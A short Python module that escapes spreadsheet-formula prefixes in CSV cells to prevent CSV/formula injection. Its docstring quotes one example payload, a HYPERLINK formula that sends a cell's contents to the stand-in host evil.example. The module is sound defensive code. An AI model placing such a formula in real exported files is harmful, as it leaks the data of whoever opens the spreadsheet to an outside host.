"""CSV for people who open it in a spreadsheet: a cell that starts like a formula is written as text.

A prompt such as `=HYPERLINK("https://evil.example/?"&A1, "click")` would otherwise run when the
manifest is opened in Excel, LibreOffice or Google Sheets (CSV/formula injection). The OWASP rule:
a leading `=`, `+`, `-`, `@`, tab or carriage return gets a `'` in front, which spreadsheets show
as nothing and which makes the cell plain text. Every CSV genhub writes goes through `writer`.
"""

import csv

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(out, **kwargs) -> _SafeWriter:
    """`csv.writer` whose cells cannot start a formula."""
    return _SafeWriter(out, **kwargs)
